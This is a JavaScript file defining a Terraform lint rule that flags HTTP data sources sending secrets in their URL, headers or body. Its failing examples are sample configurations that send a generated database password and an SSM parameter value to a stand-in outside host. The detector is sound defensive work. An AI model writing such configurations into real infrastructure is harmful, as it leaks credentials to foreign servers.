import { referencesAt } from '../conditions/references-at.js';
import { defineRule } from '../define-rule.js';
import { typeOfAddress } from '../facts/type-of-address.js';
import { fail } from '../verdict.js';
import { secretsAt } from './facts/secrets-at.js';

/** Parameters that are told apart from secrets by nothing but their name: to a foreign server none of them is sent. */
const parameter = /^(?:data\.)?aws_ssm_parameter$/;

export default defineRule({
  id: 'TF-13',
  title: 'No secret is sent by an HTTP data source',
  severity: 'critical',
  area: 'security',
  resource: 'data.http',
  why: 'A plan, by anybody, then sends the secret to the address; a module from elsewhere can steal in this way.',
  fix: 'Remove the secret from `url`, `request_headers` and `request_body`.',
  controls: {},
  docs: 'https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http',
  examples: {
    pass: [{ url: 'https://checkip.amazonaws.com' }],
    fail: [
      {
        stack: {
          resource: { random_password: { db: {} } },
          data: { http: { send: { url: 'https://example.org/${random_password.db.result}' } } },
        },
      },
      {
        stack: {
          data: {
            aws_ssm_parameter: { any: { name: 'any' } },
            http: {
              send: { url: 'https://example.org', request_body: '${data.aws_ssm_parameter.any.value}' },
            },
          },
        },
      },
    ],
  },
  check: (request, { model }) =>
    ['url', 'request_headers', 'request_body'].flatMap((path) => {
      const sent = [
        ...secretsAt(model, request, path),
        ...referencesAt(request, path)
          .filter(
            ({ address, attribute }) => parameter.test(typeOfAddress(address)) && /value$/.test(attribute),
          )
          .map(({ address }) => address),
      ];
      return [...new Set(sent)].map((address) => fail(path, `It sends \`${address}\`.`));
    }),
});
